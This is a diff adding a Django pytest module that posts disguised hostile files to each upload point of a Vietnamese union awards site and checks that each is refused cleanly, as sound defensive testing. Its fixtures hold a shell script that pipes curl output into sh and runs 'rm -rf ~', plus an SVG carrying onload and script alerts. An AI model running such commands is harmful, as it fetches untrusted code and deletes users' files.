@@ -1,0 +1,568 @@
+"""Hostile files at every upload point of the site.
+
+Each point takes (a) a shell script named .pdf, (b) an SVG with an onload script
+named .png, (c) a file one byte over UPLOAD_MAX_MB and, for spreadsheet imports,
+(d) a script named .xlsx. Each is refused without a server error, with a clear
+message in Vietnamese (the default language), no new row for the feature and no
+file left in MEDIA_ROOT.
+
+UPLOADS, just below, names every upload point. Two checks keep it complete: the
+URL resolver is scanned for views whose own code reads request.FILES, and the
+project's forms are scanned for file fields; both must match the table. (A scan
+of the code, rather than a hand-kept list of URL names, is what notices a new
+upload view.) The admin site is checked apart: it takes no file at all.
+"""
+
+import datetime
+import html
+import inspect
+import io
+import re
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from django import forms
+from django.apps import apps
+from django.conf import settings as django_settings
+from django.contrib import admin
+from django.core.cache import cache
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import models
+from django.test import RequestFactory
+from django.urls import URLResolver, get_resolver, reverse
+from django.utils import timezone, translation
+from django.utils.translation import gettext
+from openpyxl import Workbook
+
+from audit.models import AuditEntry
+from awards import dossier as dossiers
+from awards.forms_dossier import DecisionForm
+from awards.forms_records import PactForm, RatingsImportForm, RecordForm
+from awards.models import AwardForm
+from initiatives.forms import AttachmentForm
+from initiatives.models import Attachment
+from tests.awards.conftest import movement, selected_round  # noqa: F401 (fixtures)
+from tests.initiatives.helpers import make_request
+from units.forms import ImportUploadForm
+from units.models import ImportBatch
+
+pytestmark = pytest.mark.django_db
+
+# What a point takes: a document (PDF, Word, Excel, JPEG or PNG, by content), an
+# Excel workbook only, or a table (an Excel workbook or a CSV file).
+DOCUMENT, WORKBOOK, TABLE = "document", "workbook", "table"
+
+# Every upload point: what it is -> (URL name, form with the file field, takes).
+UPLOADS = {
+    "request attachment": ("initiatives:attachment_upload", AttachmentForm, DOCUMENT),
+    "movement record document": ("awards:record_create", RecordForm, DOCUMENT),
+    "signed pact": ("awards:pact_create", PactForm, DOCUMENT),
+    "award decision (dossier)": ("awards:decision_create", DecisionForm, DOCUMENT),
+    "union ratings import": ("awards:ratings_import", RatingsImportForm, WORKBOOK),
+    "member ratings import": ("awards:ratings_import", RatingsImportForm, WORKBOOK),
+    "units import": ("units:import_start", ImportUploadForm, TABLE),
+    "people import": ("units:import_start", ImportUploadForm, TABLE),
+}
+
+PROJECT_APPS = (
+    "units",
+    "audit",
+    "documents",
+    "initiatives",
+    "goldbook",
+    "awards",
+    "jobs",
+)
+TODAY = timezone.localdate()
+YEAR = TODAY.year
+
+# Letters only Vietnamese uses; an English message has none of them.
+VIETNAMESE = re.compile(
+    "[àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ]",
+    re.IGNORECASE,
+)
+
+# --- The hostile files ---------------------------------------------------------------
+
+SCRIPT = b"#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nrm -rf ~\n"
+SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+    b"<script>alert(2)</script></svg>"
+)
+PDF_HEAD = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+MAX_MB = 1  # set as settings.UPLOAD_MAX_MB in every test, to keep files small
+
+
+def one_byte_over() -> bytes:
+    """A PDF (by its content) one byte larger than the limit."""
+    size = MAX_MB * 1024 * 1024 + 1
+    return PDF_HEAD + b"%" * (size - len(PDF_HEAD))
+
+
+# name -> (file name, content, the type the browser claims)
+CASES = {
+    "script named .pdf": ("bao-cao.pdf", lambda: SCRIPT, "application/pdf"),
+    "svg named .png": ("anh-chup.png", lambda: SVG, "image/png"),
+    "one byte over the limit": ("lon.pdf", one_byte_over, "application/pdf"),
+    "script named .xlsx": (
+        "so-lieu.xlsx",
+        lambda: SCRIPT,
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    ),
+}
+DOCUMENT_CASES = ["script named .pdf", "svg named .png", "one byte over the limit"]
+SPREADSHEET_CASES = [*DOCUMENT_CASES, "script named .xlsx"]
+
+
+def cases_of(point: str) -> list[str]:
+    return DOCUMENT_CASES if UPLOADS[point][2] == DOCUMENT else SPREADSHEET_CASES
+
+
+# --- What is expected ---------------------------------------------------------------
+
+TYPE_REFUSED = (
+    "Only PDF, Word (.docx), Excel (.xlsx), JPEG and PNG files are accepted, "
+    "recognised by their content; this file is none of them."
+)
+TOO_LARGE = "The file is larger than %(mb)d MB."
+COLUMN_MISSING = 'Required column "%(title)s" is missing.'
+
+
+def vi(message: str, **values) -> str:
+    """The Vietnamese text of a message, as the site shows it by default."""
+    with translation.override("vi"):
+        text = gettext(message)
+    return text % values if values else text
+
+
+def expected_message(point: str, case: str) -> str:
+    """A document or workbook is refused on its content; a table is read as CSV
+    too, so text that is not the template's table is refused for its columns.
+    Any file is refused for its size first."""
+    if case == "one byte over the limit":
+        return vi(TOO_LARGE, mb=MAX_MB)
+    if UPLOADS[point][2] == TABLE:
+        return vi(COLUMN_MISSING, title="Mã đơn vị")
+    return vi(TYPE_REFUSED)
+
+
+def allowed_new_rows(point: str) -> set[str]:
+    """A table import keeps its check as a batch (INVALID, with no rows; see
+    test_a_refused_import_keeps_only_its_invalid_check) and the audit log notes
+    it; every other table must keep its count."""
+    if UPLOADS[point][2] == TABLE:
+        return {"units.importbatch", "audit.auditentry"}
+    return set()
+
+
+# --- Posting to each point ----------------------------------------------------------
+
+
+@dataclass
+class Posted:
+    """What a point needs to receive a file: who posts, where, with what data."""
+
+    user: object
+    url: str
+    data: dict
+
+
+def _typed(day: datetime.date) -> str:
+    return day.strftime("%d/%m/%Y")
+
+
+def _attachment(cast, request) -> Posted:
+    initiative = make_request(cast.a1_member, unit=cast.tree.a1)
+    return Posted(
+        cast.a1_member,
+        reverse("initiatives:attachment_upload", args=[initiative.pk]),
+        {"purpose": Attachment.Purpose.EVIDENCE},
+    )
+
+
+def _record(cast, request) -> Posted:
+    return Posted(
+        cast.a_staff,
+        reverse("awards:record_create") + f"?unit={cast.tree.a.pk}",
+        {
+            "kind": "launch",
+            "year": str(YEAR),
+            "held_on": _typed(TODAY.replace(day=1)),
+            "title": "Kế hoạch phát động phong trào",
+            "summary": "",
+            "inspected_unit": "",
+        },
+    )
+
+
+def _pact(cast, request) -> Posted:
+    tree = cast.tree
+    return Posted(
+        cast.a_admin,
+        reverse("awards:pact_create") + f"?unit={tree.a.pk}",
+        {
+            "year": str(YEAR),
+            "signed_on": _typed(TODAY.replace(day=1)),
+            "title": "Giao ước thi đua khối trường học",
+            "content": "Thi đua dạy tốt, học tốt.",
+            "block": "",
+            "signatories-TOTAL_FORMS": "1",
+            "signatories-INITIAL_FORMS": "0",
+            "signatories-MIN_NUM_FORMS": "1",
+            "signatories-MAX_NUM_FORMS": "200",
+            "signatories-0-unit": str(tree.a1.pk),
+            "signatories-0-signer_name": "Nguyễn Thị Lan",
+            "signatories-0-signer_position": "Chủ tịch",
+        },
+    )
+
+
+def _decision(cast, request) -> Posted:
+    """An accepted dossier of CB-A, answered by the province's staff."""
+    award_round, candidates, _entry = request.getfixturevalue("selected_round")
+    dossier = dossiers.dossier_issue(award_round=award_round, actor=cast.a_staff)
+    dossier = dossiers.dossier_send(dossier=dossier, actor=cast.a_staff)
+    dossier = dossiers.dossier_accept(dossier=dossier, actor=cast.province_staff)
+    return Posted(
+        cast.province_staff,
+        reverse("awards:decision_create", args=[dossier.pk]),
+        {
+            "award_form": str(AwardForm.objects.get(name="Giấy khen").pk),
+            "symbol": "125/QĐ-LĐLĐ",
+            "issued_on": _typed(TODAY),
+            "awardees": [str(c.pk) for c in candidates],
+        },
+    )
+
+
+def _ratings(kind: str):
+    def prepare(cast, request) -> Posted:
+        unit = cast.tree.a if kind == "units" else cast.tree.a1
+        return Posted(
+            cast.a_admin,
+            reverse("awards:ratings_import", args=[unit.pk]),
+            {"kind": kind, "year": str(YEAR)},
+        )
+
+    return prepare
+
+
+def _table_import(kind: str):
+    def prepare(cast, request) -> Posted:
+        return Posted(
+            cast.a_admin,
+            reverse("units:import_start", args=[cast.tree.a.pk]),
+            {"kind": kind},
+        )
+
+    return prepare
+
+
+# point -> (cast, pytest request) -> Posted
+PREPARE = {
+    "request attachment": _attachment,
+    "movement record document": _record,
+    "signed pact": _pact,
+    "award decision (dossier)": _decision,
+    "union ratings import": _ratings("units"),
+    "member ratings import": _ratings("members"),
+    "units import": _table_import("units"),
+    "people import": _table_import("people"),
+}
+
+
+def _workbook(*rows) -> bytes:
+    book = Workbook()
+    for row in rows:
+        book.active.append(row)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+# point -> (file name, content) that the point takes (a PDF by default).
+GOOD_FILES = {
+    "union ratings import": (
+        "xep-loai.xlsx",
+        _workbook(["Mã đơn vị", "Xếp loại"], ["CB-A1", "Công đoàn vững mạnh"]),
+    ),
+    "member ratings import": (
+        "xep-loai.xlsx",
+        _workbook(["Tên đăng nhập hoặc email", "Xếp loại"], ["a1_member", "Khá"]),
+    ),
+    "units import": (
+        "don-vi.csv",
+        "Mã đơn vị,Tên đơn vị,Loại đơn vị,Mã đơn vị cấp trên\n"
+        "CB-A-N1,Công đoàn Trường Mới,CĐCS,CB-A\n".encode(),
+    ),
+    "people import": (
+        "nguoi.csv",
+        "Mã đơn vị,Họ và tên\nCB-A1,Nguyễn Văn Mới\n".encode(),
+    ),
+}
+
+
+def test_every_upload_point_can_be_posted_to():
+    assert set(PREPARE) == set(UPLOADS)
+
+
+# --- Completeness of the table -------------------------------------------------------
+
+
+def _url_views(resolver=None, namespace="", prefix=""):
+    """Yield (URL name, route, view) for every pattern outside the admin site."""
+    resolver = resolver or get_resolver()
+    for pattern in resolver.url_patterns:
+        route = prefix + str(pattern.pattern)
+        if isinstance(pattern, URLResolver):
+            if pattern.app_name == "admin":
+                continue  # see test_the_admin_site_takes_no_file
+            yield from _url_views(pattern, pattern.namespace or namespace, route)
+        else:
+            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
+            yield name, route, pattern.callback
+
+
+def _ours(obj) -> bool:
+    return (getattr(obj, "__module__", None) or "").split(".")[0] in PROJECT_APPS
+
+
+def _our_function(obj) -> bool:
+    """A function written in the project (a decorator's wrapper copies the
+    module name of what it wraps, so the code's file decides)."""
+    if not inspect.isfunction(obj):
+        return False
+    path = Path(obj.__code__.co_filename).resolve()
+    base = Path(django_settings.BASE_DIR).resolve()
+    return path.is_relative_to(base) and path.relative_to(base).parts[0] in PROJECT_APPS
+
+
+def _project_code_of(view) -> str:
+    """The source of a view as the project wrote it: each of its functions down
+    the chain of decorators, and the project's own classes of a class-based or
+    callable-object view. (Django's generic FormMixin mentions request.FILES for
+    every form view, with a file or not, so Django's classes are left out.)"""
+    parts, target = [], view
+    while True:
+        if _our_function(target):
+            # The code object: getsource() on a function would unwrap it.
+            parts.append(inspect.getsource(target.__code__))
+        if not hasattr(target, "__wrapped__"):
+            break
+        target = target.__wrapped__
+    view_class = getattr(view, "view_class", None)
+    if view_class is None and not inspect.isfunction(target):
+        view_class = type(target)
+    if view_class is not None:
+        parts += [inspect.getsource(k) for k in view_class.__mro__ if _ours(k)]
+    return "".join(parts)
+
+
+def test_every_view_that_reads_files_is_in_the_table():
+    """A view reading request.FILES that the table does not name fails here.
+    The scan reads each view's own code; a view handing request.FILES to a helper
+    in another function is caught by the form scan below instead."""
+    reading = {
+        name
+        for name, _route, view in _url_views()
+        if "request.FILES" in _project_code_of(view)
+    }
+    assert reading == {url_name for url_name, _form, _takes in UPLOADS.values()}
+
+
+def _project_forms():
+    """Every form class defined in the project's apps."""
+    for app in PROJECT_APPS:
+        for module_name in ("forms", "forms_records", "forms_dossier", "forms_rounds"):
+            try:
+                __import__(f"{app}.{module_name}")
+            except ModuleNotFoundError:
+                continue
+    seen, stack = set(), [forms.BaseForm]
+    while stack:
+        klass = stack.pop()
+        for sub in klass.__subclasses__():
+            if sub not in seen:
+                seen.add(sub)
+                stack.append(sub)
+    return {klass for klass in seen if klass.__module__.split(".")[0] in PROJECT_APPS}
+
+
+def test_every_form_with_a_file_field_is_in_the_table():
+    with_files = {
+        klass
+        for klass in _project_forms()
+        if any(isinstance(f, forms.FileField) for f in klass.base_fields.values())
+    }
+    assert with_files == {form for _url_name, form, _takes in UPLOADS.values()}
+
+
+def _file_fields(model) -> list[str]:
+    return [f.name for f in model._meta.get_fields() if isinstance(f, models.FileField)]
+
+
+def test_the_admin_site_takes_no_file(cast):
+    """The admin writes no model that holds a file, directly or inline."""
+    request = RequestFactory().get("/admin/")
+    request.user = cast.superuser
+    writable = []
+    for model, model_admin in admin.site._registry.items():
+        holders = [(model, model_admin)] + [
+            (inline.model, inline)
+            for inline in model_admin.get_inline_instances(request)
+        ]
+        for holder, holder_admin in holders:
+            if not _file_fields(holder):
+                continue
+            if holder is model:
+                may_add = holder_admin.has_add_permission(request)
+            else:
+                may_add = holder_admin.has_add_permission(request, None)
+            if may_add or holder_admin.has_change_permission(request):
+                writable.append(holder._meta.label)
+    assert writable == []
+    # The scan reaches models with files at all (the admin lists some).
+    assert any(_file_fields(model) for model in admin.site._registry)
+
+
+def test_the_table_covers_every_file_field_of_the_models():
+    """Every stored file of the project is written by an upload point, a print job
+    or an issued document: a new model file field must be looked at here."""
+    holders = {
+        model._meta.label_lower
+        for app in PROJECT_APPS
+        for model in apps.get_app_config(app).get_models()
+        if _file_fields(model)
+    }
+    assert holders == {
+        "initiatives.attachment",  # request attachment
+        "awards.movementrecord",  # movement record document
+        "awards.pact",  # signed pact
+        "awards.awarddecision",  # award decision
+        "documents.issueddocument",  # rendered by the application, not uploaded
+        "jobs.job",  # a print made by the worker, not uploaded
+    }
+
+
+# --- The refusals --------------------------------------------------------------------
+
+
+@pytest.fixture(autouse=True)
+def media_root(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path / "media"
+    settings.UPLOAD_MAX_MB = MAX_MB
+    # Uploads are rate limited per person; start every test with none counted.
+    cache.clear()
+    yield settings.MEDIA_ROOT
+    cache.clear()
+
+
+def stored_files() -> set[Path]:
+    root = Path(django_settings.MEDIA_ROOT)
+    return {path for path in root.rglob("*") if path.is_file()}
+
+
+def row_counts() -> dict[str, int]:
+    return {
+        model._meta.label_lower: model._base_manager.count()
+        for app in PROJECT_APPS
+        for model in apps.get_app_config(app).get_models()
+    }
+
+
+def page_text(response) -> str:
+    """The text of a page, tags removed and entities decoded."""
+    content = response.content.decode()
+    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", content)).split())
+
+
+@pytest.mark.parametrize(
+    ("point", "case"),
+    [
+        pytest.param(point, case, id=f"{point}-{case}")
+        for point in UPLOADS
+        for case in cases_of(point)
+    ],
+)
+def test_a_hostile_file_is_refused_clearly_and_leaves_nothing(
+    point, case, cast, client_for, request
+):
+    posted = PREPARE[point](cast, request)
+    name, build, content_type = CASES[case]
+    client = client_for(posted.user)
+    before_rows, before_files = row_counts(), stored_files()
+
+    upload = SimpleUploadedFile(name, build(), content_type=content_type)
+    response = client.post(posted.url, {**posted.data, "file": upload}, follow=True)
+
+    # Never a server error, along the whole way.
+    statuses = [status for _url, status in response.redirect_chain]
+    assert all(status < 500 for status in statuses), response.redirect_chain
+    assert response.status_code in (200, 400), response.status_code
+    # A clear message in Vietnamese.
+    expected = expected_message(point, case)
+    assert VIETNAMESE.search(expected), f"not translated: {expected!r}"
+    assert expected in page_text(response)
+    # The markup of the file is never put into the page as markup.
+    assert 'onload="alert(1)"' not in response.content.decode()
+    # Nothing written for the feature, no file kept.
+    after_rows = row_counts()
+    changed = {
+        label: after_rows[label] - count
+        for label, count in before_rows.items()
+        if after_rows[label] != count
+    }
+    allowed = allowed_new_rows(point)
+    assert {k: v for k, v in changed.items() if k not in allowed} == {}
+    assert all(changed.get(label, 0) <= 1 for label in allowed), changed
+    assert stored_files() == before_files
+
+
+@pytest.mark.parametrize("point", UPLOADS)
+def test_the_same_post_with_a_good_file_is_taken(point, cast, client_for, request):
+    """The control: every other field of the posts above is right, so what is
+    refused there is the file alone."""
+    posted = PREPARE[point](cast, request)
+    name, content = GOOD_FILES.get(point, ("minh-chung.pdf", PDF_HEAD))
+    client = client_for(posted.user)
+    before_rows, before_files = row_counts(), stored_files()
+    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
+    response = client.post(posted.url, {**posted.data, "file": upload})
+    assert response.status_code == 302, response.status_code
+    after_rows = row_counts()
+    grown = {label for label, count in after_rows.items() if count > before_rows[label]}
+    assert grown - {"audit.auditentry"}, "nothing was written"
+    takes = UPLOADS[point][2]
+    if takes == TABLE:
+        assert ImportBatch.objects.get().status == ImportBatch.Status.CHECKED
+    elif takes == DOCUMENT:
+        assert len(stored_files() - before_files) == 1
+
+
+@pytest.mark.parametrize("case", SPREADSHEET_CASES)
+@pytest.mark.parametrize("point", ["units import", "people import"])
+def test_a_refused_import_keeps_only_its_invalid_check(point, case, cast, client_for):
+    """The unit import keeps each check as a batch to show its problems: a
+    refused file leaves one INVALID batch holding no row to apply."""
+    posted = PREPARE[point](cast, None)
+    name, build, content_type = CASES[case]
+    client = client_for(posted.user)
+    seen = set(AuditEntry.objects.values_list("pk", flat=True))
+    upload = SimpleUploadedFile(name, build(), content_type=content_type)
+    response = client.post(posted.url, {**posted.data, "file": upload})
+    batch = ImportBatch.objects.get()
+    assert response.status_code == 302
+    assert response.url == batch.get_absolute_url()
+    assert batch.status == ImportBatch.Status.INVALID
+    assert batch.rows == []
+    assert batch.errors
+    # The only entry the upload added to the audit log is the batch's.
+    assert [
+        (entry.target_type, entry.target_id)
+        for entry in AuditEntry.objects.exclude(pk__in=seen)
+    ] == [("units.importbatch", str(batch.pk))]
+    # Applying it anyway writes nothing.
+    client.post(reverse("units:import_apply", args=[batch.pk]))
+    batch.refresh_from_db()
+    assert batch.status == ImportBatch.Status.INVALID
